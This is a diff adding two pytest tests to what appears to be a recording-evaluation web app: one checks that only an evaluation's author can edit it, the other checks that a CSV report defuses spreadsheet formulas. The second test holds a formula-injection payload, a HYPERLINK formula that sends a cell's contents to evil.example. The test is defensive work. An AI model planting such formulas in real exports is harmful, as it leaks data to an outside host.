@@ -14,9 +14,11 @@ from typing import Any
 import pytest
 from dependency_injector import providers
 
+from apps.seed import DEMO_PASSWORD
 from kc_adapters.recordings import FileRecordingStore
 from kc_adapters.speech.audio import telephony_wav
 from kc_adapters.system import FixedClock
+from kc_domain.audit.model import Outcome
 from kc_domain.audit.service import SYSTEM, AuditQuery
 from kc_domain.identity.roles import Role
 from kc_domain.recordings.evaluation import Criterion, Scale
@@ -331,6 +333,41 @@ def test_an_evaluation_is_edited_only_on_its_own_recording(client, container, wo
     assert client.post(f"/recordings/{world['r2']}/evaluations/{evaluation.id}", {}).status_code == 404
 
 
+@pytest.mark.req("GEN-01", "SEC-03")
+def test_only_the_author_edits_an_evaluation(client, container, world):
+    """Issue 16 #15: another supervisor rewrote an evaluation that still showed as the first one's."""
+    container.admin().create(
+        SYSTEM,
+        "user",
+        {
+            "username": "vedouci2",
+            "full_name": "Jana Druhá",
+            "roles": {Role.SUPERVISOR, Role.LISTEN_RECORDING},
+        },
+        password=DEMO_PASSWORD,
+    )
+    signed_in(client, "supervizor")
+    client.post(f"/recordings/{world['r1']}/evaluations", sheet(world["form"]))
+    (evaluation,) = stored(container)
+
+    signed_in(client, "vedouci2")
+    page = text(client.get(f"/recordings/{world['r1']}"))
+    assert f"edit-evaluation-{evaluation.id}" not in page  # no edit link for another's evaluation
+    assert client.get(f"/recordings/{world['r1']}?evaluation={evaluation.id}").status_code == 403
+    response = client.post(
+        f"/recordings/{world['r1']}/evaluations/{evaluation.id}",
+        {"edit_score_1": "0", "edit_score_2": "0", "edit_score_3": "", "comment": "Přepsáno."},
+    )
+
+    assert response.status_code == 403
+    (kept,) = stored(container)
+    assert (kept.score_percent, kept.comment) == (evaluation.score_percent, evaluation.comment)
+    (refused,) = audit_of(container, "evaluation.update")
+    assert refused.actor == "vedouci2" and refused.outcome == Outcome.REJECTED
+    signed_in(client, "supervizor")
+    assert f"edit-evaluation-{evaluation.id}" in text(client.get(f"/recordings/{world['r1']}"))
+
+
 def test_an_agent_may_not_evaluate(client, container, world):
     signed_in(client, "novakova")
 
@@ -468,6 +505,23 @@ def test_the_report_counts_prague_days(client, container, world):
 
     assert f'id="agent-{world["novakova"]}"' not in november
     assert f'id="agent-{world["novakova"]}"' in december
+
+
+@pytest.mark.req("REP-05")
+def test_the_report_csv_never_writes_a_formula(client, container, world):
+    payload = '=HYPERLINK("http://evil.example/?x="&A2,"Klikni")'
+    with container.uow_factory()() as uow:
+        user = uow.users.get(world["novakova"])
+        user.full_name = payload
+        uow.commit()
+    evaluate_all(client, world)
+    signed_in(client, "supervizor")
+
+    response = client.get("/evaluations/report.csv?since=2026-11-01&until=2026-11-30")
+
+    lines = response.get_data(as_text=True).lstrip("\ufeff").splitlines()
+    assert any(line.startswith("\"'=HYPERLINK(") for line in lines)
+    assert not any(line.startswith(("=", '"=')) for line in lines)
 
 
 def test_the_report_is_for_evaluators_only(client, world):
